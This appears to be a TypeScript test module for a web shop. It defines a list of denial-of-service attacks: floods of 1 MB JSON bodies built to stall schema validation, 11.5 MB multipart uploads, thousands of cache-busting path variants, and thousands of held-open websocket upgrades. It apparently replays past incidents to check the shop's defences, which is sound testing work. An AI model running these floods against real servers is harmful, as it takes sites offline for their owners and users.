import { request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';

/** One way to end a shop without an account. `run` resolves once everything that it asked is answered or closed. */
export type Attack = { name: string; run: (origin: string) => Promise<void> };

type Sent = { path: string; method?: string; headers?: Readonly<Record<string, string>>; body?: Buffer };

/** Sends a request as it is, whatever its address; what is refused while it is sent is over. */
const send = (origin: string, { path, method = 'GET', headers = {}, body }: Sent): Promise<void> =>
  new Promise((done) => {
    const { hostname, port } = new URL(origin);
    const length = body ? { 'content-length': String(body.length) } : {};
    const sent = request({ hostname, port, path, method, headers: { origin, ...length, ...headers }, agent: false });
    sent.once('response', (answer) => answer.resume().once('close', () => done()));
    sent.once('error', () => done());
    sent.end(body);
  });

const atOnce = async (count: number, one: (n: number) => Promise<unknown>): Promise<void> => {
  await Promise.all(Array.from({ length: count }, (_, n) => one(n)));
};

/** Runs `count` calls, `under` of them at the same time. */
async function inTurns(count: number, under: number, one: (n: number) => Promise<unknown>): Promise<void> {
  let next = 0;
  await atOnce(under, async () => {
    while (next < count) await one(next++);
  });
}

const json = { 'content-type': 'application/json' };
/** Values without end: what takes a schema longest. */
const dear = (bytes: number) => Buffer.from(`[${'{},'.repeat(Math.floor(bytes / 3) - 1)}{}]`);
const [megabyte, allowed] = [dear(1_000_000), dear(60_000)];

const post = (path: string, body: Buffer) => (origin: string) => send(origin, { path, method: 'POST', headers: json, body });

const boundary = 'attack';
const form = Buffer.concat([
  Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="image"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`),
  Buffer.alloc(11.5 * 1024 * 1024, 1),
  Buffer.from(`\r\n--${boundary}--\r\n`),
]);

/** Addresses of one page, none like another. */
const otherNames = [
  (n: number) => `/#${n}`,
  (n: number) => `/${'./'.repeat(n % 300)}?of=${n}`,
  (n: number) => `/${'%2e/'.repeat(n % 300)}?of=${n}`,
  (n: number) => `/page/${'0'.repeat(n % 300)}66?of=${n}`,
  (n: number) => `/?of=${n}`,
];

/** Requests the upgrade of a connection and leaves it open. */
const upgraded = (origin: string, forMs: number): Promise<void> =>
  new Promise((done) => {
    const { hostname, port } = new URL(origin);
    const socket = connect(Number(port), hostname);
    socket.setTimeout(forMs, () => socket.destroy());
    socket.once('connect', () =>
      socket.write('GET / HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\r\n'),
    );
    socket.resume();
    socket.once('error', () => socket.destroy());
    socket.once('close', () => done());
  });

/** Every attack that was seen to end a shop, or to hold it up; numbers as they were then, or larger. */
export const attacks: readonly Attack[] = [
  { name: '200 guests with 1 MB for page-for-me', run: (origin) => atOnce(200, () => post('/api/page-for-me', megabyte)(origin)) },
  { name: '200 guests with 1 MB for page-section', run: (origin) => atOnce(200, () => post('/api/page-section', megabyte)(origin)) },
  { name: '200 guests with 1 MB for a call', run: (origin) => atOnce(200, () => post('/api/login', megabyte)(origin)) },
  { name: '200 guests with 60 KB for a call', run: (origin) => atOnce(200, () => post('/api/login', allowed)(origin)) },
  {
    name: '60 forms of 11.5 MB',
    run: (origin) =>
      atOnce(60, () =>
        send(origin, {
          path: '/api/message',
          method: 'POST',
          headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
          body: form,
        }),
      ),
  },
  {
    name: '10,000 names of one page',
    run: (origin) => inTurns(10_000, 50, (n) => send(origin, { path: otherNames[n % otherNames.length]?.(n) ?? '/' })),
  },
  {
    name: '3,000 connections to upgrade',
    run: (origin) => inTurns(3_000, 3_000, async (n) => wait(n).then(() => upgraded(origin, 20_000))),
  },
];
